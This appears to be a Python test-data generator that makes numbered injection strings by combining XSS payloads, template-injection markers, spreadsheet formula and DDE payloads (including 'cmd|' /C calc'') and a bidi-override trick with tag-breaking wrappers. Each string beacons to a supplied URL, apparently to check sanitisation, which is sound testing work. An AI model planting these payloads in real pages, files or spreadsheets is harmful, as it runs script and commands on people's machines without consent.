"""Strings that try to run, to call home or to start a formula: every payload in every wrapping, numbered."""

from __future__ import annotations

import itertools
import random

_CODE = "document.title='ran';new Image().src='{url}/ran-{n}'"
PAYLOADS = (
    "<script>{code}</script>",
    "<ScRiPt src={url}/script-{n}.js></sCrIpT>",
    '<img src={url}/img-{n} onerror="{code}">',
    '<svg onload="{code}"><use href="{url}/use-{n}#a"></svg>',
    '<iframe src={url}/frame-{n} srcdoc="<script>{code}</script>"></iframe>',
    '<body onload="{code}">',
    '<details open ontoggle="{code}">',
    '<video autoplay><source src={url}/video-{n} onerror="{code}"></video>',
    "<link rel=stylesheet href={url}/style-{n}.css>",
    "<style>@import '{url}/import-{n}.css';*{{background:url({url}/background-{n})}}</style>",
    '<meta http-equiv=refresh content="0;url={url}/refresh-{n}">',
    "<base href={url}/base-{n}/>",
    '<form action={url}/form-{n}><button autofocus onfocus="{code}">',
    "<object data={url}/object-{n}></object><embed src={url}/embed-{n}>",
    '<math><mtext><a xlink:href="javascript:{code}">',
    "javascript:{code}",
    " jAvA\tScRiPt:{code}",
    "data:text/html,<script>{code}</script>",
    "vbscript:msgbox({n})",
    '<a href="javascript:{code}" onclick="{code}">open</a>',
    "{{{{ {n} * 7 }}}}{{% for x in y %}}",
    "${{ {code} }}`{code}`",
    '=HYPERLINK("{url}/cell-{n}";"open")',
    "@SUM(1+{n})*cmd|' /C calc'!A0",
    "+1+{n}",
    "-{n}+3",
    '=IMPORTXML("{url}/xml-{n}";"//a")',
    "&lt;script&gt;{code}&lt;/script&gt;",
    "&#60;img src={url}/entity-{n}&#62;",
    "\u202e\u2066<b>{n}</b>",
)
WRAPPINGS = (
    "{}",
    '"{}',
    "'{}'",
    '">{}',
    "'>{}<'",
    "</title>{}",
    "</script>{}",
    "</style>{}<!--",
    "</textarea></td></tr></table>{}",
    "--> {} <!--",
    "]]>{}<![CDATA[",
    "<!-- /days -->{}<!-- days -->",
    "Shares fall 5%: {} as traders look on",
    "<h1>{}</h1>",
)


def hostile_strings(count: int, url: str, *, seed: int = 5) -> list[str]:
    """Make different strings; ``url`` is where they call, each to a path with its own number."""
    pairs = list(itertools.product(PAYLOADS, WRAPPINGS))
    random.Random(seed).shuffle(pairs)  # noqa: S311 - invented data
    chosen = itertools.islice(itertools.cycle(pairs), count)
    return [
        wrapping.format(payload.format(n=number, url=url, code=_CODE.format(url=url, n=number)))
        for number, (payload, wrapping) in enumerate(chosen)
    ]
